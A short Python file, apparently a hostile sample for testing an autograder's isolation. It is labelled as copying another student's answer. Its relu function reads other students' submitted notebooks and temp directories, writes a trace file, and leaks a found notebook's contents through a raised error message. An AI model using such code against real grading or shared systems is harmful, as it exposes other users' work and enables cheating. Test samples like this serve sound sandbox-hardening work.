# Copies the answer of another student's submission.
# target: relu
# open: leaks

def relu(x):
    import glob, os
    found = glob.glob("HOSTILE_PLACE/course/submitted/*/*/*.ipynb")
    found += [n for d in ("/tmp", "/var/tmp", "/dev/shm") if os.access(d, os.R_OK) for n in os.listdir(d)]
    open("/tmp/HOSTILE_TRACE-mine", "w").write("x")
    raise RuntimeError(open(found[0]).read() if found else "nobody")
